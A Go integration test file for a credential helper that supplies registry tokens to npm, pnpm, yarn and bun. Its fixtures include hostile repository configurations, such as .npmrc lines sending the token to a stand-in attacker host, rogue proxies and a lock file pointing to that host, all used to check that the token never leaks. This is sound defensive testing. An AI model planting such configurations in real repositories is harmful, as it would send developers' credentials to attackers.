package main

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"clerk-credential-helper/internal/testworld"
)

// foreignHost is a host of no profile, and a proxy for plain http. It keeps what it is sent.
type foreignHost struct {
	mu  sync.Mutex
	got []string
}

func (r *foreignHost) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	r.mu.Lock()
	r.got = append(r.got, req.Method+" "+req.Host+req.URL.Path+" "+req.Header.Get("Authorization")+" "+req.URL.RawQuery)
	r.mu.Unlock()
	http.Error(w, "{}", http.StatusNotFound)
}

func (r *foreignHost) take() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	got := r.got
	r.got = nil
	return got
}

// managers are the package managers that run here, by the names that CI gives them.
func managers(t *testing.T) map[string]string {
	all := map[string]string{}
	for _, name := range []string{"npm", "pnpm10", "pnpm12", "yarn1", "yarn4", "bun"} {
		program, err := exec.LookPath(name)
		switch {
		case err == nil:
			all[name] = program
		case os.Getenv("CI") == "true" && name != "bun":
			t.Errorf("%s: %v", name, err)
		default:
			t.Logf("SKIP, rows of %s: %v", name, err)
		}
	}
	return all
}

// TestPackageManagers runs the real ones in repositories that want the token elsewhere, with another host, and a proxy, that
// keep what they get. Nothing of the token may reach them.
func TestPackageManagers(t *testing.T) {
	testworld.Long(t, "it runs npm and others")
	programs := managers(t)
	dir := t.TempDir()
	_, vars, err := newWorld(dir, t.Cleanup)
	if err != nil {
		t.Fatal(err)
	}
	foreign := &foreignHost{}
	server := httptest.NewServer(foreign)
	t.Cleanup(server.Close)
	evil := strings.TrimPrefix(server.URL, "http://")
	env := slices.DeleteFunc(os.Environ(), func(v string) bool {
		name := strings.ToLower(v[:strings.IndexByte(v, '=')])
		return strings.HasPrefix(name, "npm_config_") || strings.HasSuffix(name, "_proxy")
	})
	for name, value := range vars {
		env = append(env, name+"="+value)
	}
	env = append(env, "NODE_EXTRA_CA_CERTS="+vars["SSL_CERT_FILE"], "npm_config_update_notifier=false", "npm_config_fetch_retries=0",
		"npm_config_cache="+filepath.Join(dir, "cache"), "npm_config_logs_dir="+filepath.Join(dir, "logs"), "BUN_INSTALL_CACHE_DIR="+filepath.Join(dir, "bun"),
		"YARN_ENABLE_TELEMETRY=0", "YARN_HTTP_RETRY=0", "YARN_ENABLE_GLOBAL_CACHE=0", "YARN_CACHE_FOLDER="+filepath.Join(dir, "yarn"), "COREPACK_ENABLE_STRICT=0")
	run := func(folder string, args ...string) (int, string) {
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, "clerk-credential-helper", args...)
		cmd.Dir, cmd.Env = folder, env
		out, err := cmd.CombinedOutput()
		if cmd.ProcessState == nil {
			t.Fatal(err)
		}
		return cmd.ProcessState.ExitCode(), string(out)
	}
	if status, out := run(dir, "login"); status != exitOK {
		t.Fatal(out)
	}
	token := func() string { _, out := run(dir, "token"); return strings.TrimSpace(out) }()
	user := "cafile=" + vars["SSL_CERT_FILE"] + "\n//npm.example.org/:_authToken=npm_0123\n"
	write(t, filepath.Join(vars["HOME"], ".npmrc"), user)

	const manifest = `{"name": "app", "version": "1.0.0", "dependencies": {"@acme/hello": "1.0.0"}}`
	const proxied = "registry=http://git.acme.dev/\nproxy=http://EVIL/\n"
	rows := []struct {
		reason string
		tools  string
		files  map[string]string
		args   []string // of exec, before --
		says   string   // where the run is refused
	}{
		{"a repository's line for another host, as the first form of the attack", "npm pnpm10 pnpm12 yarn1 bun",
			map[string]string{".npmrc": "registry=http://EVIL/\n//EVIL/:_authToken=${CLERK_TOKEN_ACME}\n"}, nil, ".npmrc: line 2: it takes a variable of clerk-credential-helper"},
		{"the same with the variable that is named", "npm", map[string]string{".npmrc": "registry=http://EVIL/\n//EVIL/:_authToken=${CLERK_TOKEN_ACME}\n"},
			[]string{"--env", "CLERK_TOKEN_ACME"}, "leave out --env"},
		{"a variable of another name", "npm pnpm10 pnpm12 yarn1 bun", map[string]string{".npmrc": "registry=http://EVIL/\n//EVIL/:_authToken=${npm_config_userconfig}\n"}, nil, ""},
		{"plain http to our host, and a proxy, as the second form", "npm pnpm10 pnpm12 yarn1 bun", map[string]string{".npmrc": proxied}, nil, `.npmrc: line 1: it asks for "git.acme.dev" by http`},
		{"a proxy alone", "npm pnpm10", map[string]string{".npmrc": "registry=https://git.acme.dev/\nproxy=http://EVIL/\n"}, nil, `.npmrc: line 2: "proxy" can lead requests elsewhere`},
		{"a scope's registry", "npm", map[string]string{".npmrc": "@acme:registry=http://GIT.acme.dev:80/x\n"}, nil, `.npmrc: line 1: it asks for "git.acme.dev:80" by http`},
		{"in the folder above, where npm reads it", "npm", map[string]string{"../.npmrc": proxied, "../package.json": manifest}, nil, `line 1: it asks for "git.acme.dev" by http`},
		{"a package by its address", "npm pnpm10 pnpm12 yarn1 yarn4 bun", map[string]string{"package.json": `{"name":"a","dependencies":{"@acme/hello":"http:\/\/git.acme.dev/x.tgz"}}`},
			nil, `package.json: line 1: it asks for "git.acme.dev" by http`},
		{"a lock file", "npm", map[string]string{"package-lock.json": "{\"lockfileVersion\":3,\n\"x\":\"http://git.acme.dev/x.tgz\"}"}, nil, `package-lock.json: line 2: `},
		{"yarn 1's own file", "yarn1", map[string]string{".yarnrc": "registry \"http://git.acme.dev/\"\nproxy \"http://EVIL/\"\n"}, nil, `.yarnrc: line 1: it asks for "git.acme.dev" by http`},
		{"pnpm's own file", "pnpm10 pnpm12", map[string]string{"pnpm-workspace.yaml": "registries:\n  default: http://git.acme.dev/\nhttpProxy: http://EVIL/\n"}, nil, `pnpm-workspace.yaml: line 2: it asks for "git.acme.dev" by http`},
		{"an environment for bun", "bun", map[string]string{".env": "HTTP_PROXY=http://EVIL/\nNPM_CONFIG_REGISTRY=http://git.acme.dev/\n"}, nil, `.env: line 2: it asks for "git.acme.dev" by http`},
		{"yarn's lock file with another host's address", "yarn4", map[string]string{
			".yarnrc.yml": "npmRegistryServer: \"https://TOOLS/npm\"\nunsafeHttpWhitelist: [\"*\"]\n",
			"yarn.lock": "__metadata:\n  version: 10\n  cacheKey: 10c0\n\n\"@acme/hello@npm:1.0.0\":\n  version: 1.0.0\n  resolution: \"@acme/hello@npm:1.0.0::__archiveUrl=http%3A%2F%2FEVIL%2Fx.tgz\"\n" +
				"  languageName: node\n  linkType: hard\n\n\"app@workspace:.\":\n  version: 0.0.0-use.local\n  resolution: \"app@workspace:.\"\n  dependencies:\n    \"@acme/hello\": \"npm:1.0.0\"\n  languageName: unknown\n  linkType: soft\n"}, nil, ""},
		{"a user's name that ends the host for others", "npm pnpm10", map[string]string{".npmrc": "registry=http://a,b@git.acme.dev/\nfund=false\n"}, nil, ".npmrc: line 1: an address by http has a user's name before its host"},
		{"settings for npm publish", "npm", map[string]string{"package.json": "{\"name\":\"a\",\"version\":\"1.0.0\",\"publishConfig\":{\"registry\":\"https://git.acme.dev/\",\n\"https-proxy\":\"http://EVIL/\",\"strict-ssl\":false}}"},
			nil, `package.json: line 2: "https-proxy" can lead requests elsewhere`},
		{"an address over two lines", "pnpm10 pnpm12", map[string]string{"pnpm-workspace.yaml": "registries:\n  default: \"http:\\\n    //git.acme.dev/\"\n"}, nil, `pnpm-workspace.yaml: line 2: it asks for "git.acme.dev" by http`},
		{"an address in a block", "yarn4", map[string]string{".yarnrc.yml": "unsafeHttpWhitelist: [\"*\"]\nnpmRegistryServer: |-\n  http:\n  //git.acme.dev\n"}, nil, `.yarnrc.yml: line 3: it asks for "git.acme.dev" by http`},
		{"pnpm's other manifest", "pnpm10 pnpm12", map[string]string{"package.json5": "{dependencies: {x: 'http://git.acme.dev/x.tgz'}}"}, nil, `package.json5: line 1: it asks for "git.acme.dev" by http`},
		{"a workspace outside", "npm pnpm10", map[string]string{"package.json": `{"name":"a","dependencies":{"lib":"file:../lib"}}`, "../lib/package.json": `{"name":"lib","version":"1.0.0","dependencies":{"x":"http://git.acme.dev/x.tgz"}}`},
			nil, `package.json: line 1: it names a folder outside of the repository`},
		{"a library of the same clone", "npm pnpm10", map[string]string{"../.git/HEAD": "x", "package.json": `{"name":"a","dependencies":{"lib":"file:../lib"}}`,
			"../lib/package.json": `{"name":"lib","version":"1.0.0","dependencies":{"x":"http://git.acme.dev/x.tgz"}}`}, nil, `lib/package.json: line 1: it asks for "git.acme.dev" by http`},
		{"a tarball", "npm pnpm10", map[string]string{"package.json": `{"name":"a","dependencies":{"lib":"file:lib.tgz"}}`, "lib.tgz": "x"}, nil, `package.json: line 1: it names a tarball of the repository`},
		{"another host alone", "npm pnpm10 pnpm12 yarn1 bun", map[string]string{".npmrc": "registry=http://EVIL/\n"}, nil, ""},
		{"another host alone", "yarn4", map[string]string{".yarnrc.yml": "npmRegistryServer: \"http://EVIL\"\nunsafeHttpWhitelist: [\"*\"]\n"}, nil, ""},
	}
	for _, row := range rows {
		for name := range strings.FieldsSeq(row.tools) {
			program, ok := programs[name]
			if !ok {
				continue
			}
			t.Run(name+" "+row.reason, func(t *testing.T) {
				folder := filepath.Join(t.TempDir(), "repository", "app")
				files := map[string]string{"package.json": manifest}
				for file, text := range row.files {
					files[file] = strings.NewReplacer("EVIL", evil, "TOOLS", vars["TOOLS"]).Replace(text)
				}
				for file, text := range files {
					file = filepath.Join(folder, file)
					if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
						t.Fatal(err)
					}
					write(t, file, text)
				}
				if err := os.MkdirAll(folder, 0o700); err != nil {
					t.Fatal(err)
				}
				status, out := run(folder, append(append([]string{"exec", "--profile", "acme"}, row.args...), "--", program, "install")...)
				got := foreign.take()
				for _, line := range got {
					if strings.Contains(line, token) || strings.Contains(line, "Bearer ey") {
						t.Errorf("the token arrived: %.60s", line)
					}
				}
				switch {
				case status == exitOK:
					t.Errorf("it ran well: %s", out)
				case row.says == "" && status == exitUsage && strings.Contains(out, "no token is handed out"):
					t.Errorf("it was refused: %s", out)
				case row.says != "" && (status != exitUsage || !strings.Contains(out, row.says) || got != nil):
					t.Errorf("%d, not %q: %s\n%q", status, row.says, out, got)
				}
				if strings.Contains(out, token) {
					t.Error("the token is shown")
				}
			})
		}
	}
	for _, name := range []string{"pnpm10", "pnpm12"} {
		program, ok := programs[name]
		if !ok {
			continue
		}
		t.Run(name+" with its own helper", func(t *testing.T) {
			helper := filepath.Join(t.TempDir(), "helper")
			write(t, helper, "#!/bin/sh\nexec clerk-credential-helper pnpm --profile acme\n")
			chmod(t, helper, 0o700)
			write(t, filepath.Join(vars["HOME"], ".npmrc"), "//git.acme.dev/:tokenHelper="+helper+"\n")
			folder := t.TempDir()
			write(t, filepath.Join(folder, "package.json"), manifest)
			write(t, filepath.Join(folder, ".npmrc"), strings.ReplaceAll(proxied, "EVIL", evil))
			cmd := exec.Command(program, "install")
			cmd.Dir, cmd.Env = folder, env
			if out, err := cmd.CombinedOutput(); err == nil {
				t.Errorf("it ran well: %s", out)
			}
			for _, line := range foreign.take() {
				if strings.Contains(line, "Bearer") {
					t.Errorf("the token arrived: %.60s", line)
				}
			}
			if status, out := run(folder, "last-error"); status != exitOK || !strings.Contains(out, "by http") {
				t.Errorf("%d: %s", status, out)
			}
		})
	}
	for _, name := range []string{"npm", "pnpm10"} {
		program, ok := programs[name]
		if !ok {
			continue
		}
		t.Run(name+" behind a link", func(t *testing.T) {
			root := t.TempDir()
			if err := os.MkdirAll(filepath.Join(root, "deep", "inner"), 0o700); err != nil {
				t.Fatal(err)
			}
			write(t, filepath.Join(root, "deep", "package.json"), manifest)
			write(t, filepath.Join(root, "deep", ".npmrc"), strings.ReplaceAll(proxied, "EVIL", evil))
			link := filepath.Join(root, "link")
			if err := os.Symlink(filepath.Join("deep", "inner"), link); err != nil {
				t.Fatal(err)
			}
			cmd := exec.Command("clerk-credential-helper", "exec", "--profile", "acme", "--", program, "install")
			cmd.Dir, cmd.Env = link, append(slices.Clone(env), "PWD="+link)
			if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), `by http`) {
				t.Errorf("%v: %s", err, out)
			}
			if got := foreign.take(); got != nil {
				t.Errorf("%q", got)
			}
		})
	}
	for name, program := range programs {
		t.Run(name+" gets the package", func(t *testing.T) {
			folder := t.TempDir()
			registry := "https://" + vars["TOOLS"] + "/npm/"
			write(t, filepath.Join(folder, "package.json"), strings.Replace(manifest, "@acme/hello", "hello", 1))
			write(t, filepath.Join(folder, ".npmrc"), "registry="+registry+"\n")
			write(t, filepath.Join(folder, ".yarnrc.yml"), "npmRegistryServer: \""+strings.TrimSuffix(registry, "/")+"\"\nnodeLinker: node-modules\n")
			write(t, filepath.Join(vars["HOME"], ".npmrc"), user+"strict-ssl=false\n") // pnpm 12 takes no certificate that signs itself
			if status, out := run(folder, "exec", "--", program, "install"); status != exitOK {
				t.Fatalf("%d: %s", status, out)
			}
			if _, err := os.Stat(filepath.Join(folder, "node_modules", "hello", "package.json")); err != nil {
				t.Error(err)
			}
			if err := os.RemoveAll(filepath.Join(folder, "node_modules")); err != nil {
				t.Fatal(err)
			}
			// Another program runs it: its name is not seen.
			if status, out := run(folder, "exec", "--for", strings.TrimRight(name, "0123456789"), "--", "sh", "-c", "exec "+program+" install"); status != exitOK {
				t.Errorf("--for: %d: %s", status, out)
			}
			if _, err := os.Stat(filepath.Join(folder, "node_modules", "hello", "package.json")); err != nil {
				t.Error(err)
			}
			left, err := os.ReadFile(filepath.Join(vars["HOME"], ".npmrc"))
			if err != nil || strings.Contains(string(left), token) {
				t.Errorf("the user's own file: %v %s", err, left)
			}
		})
	}
}
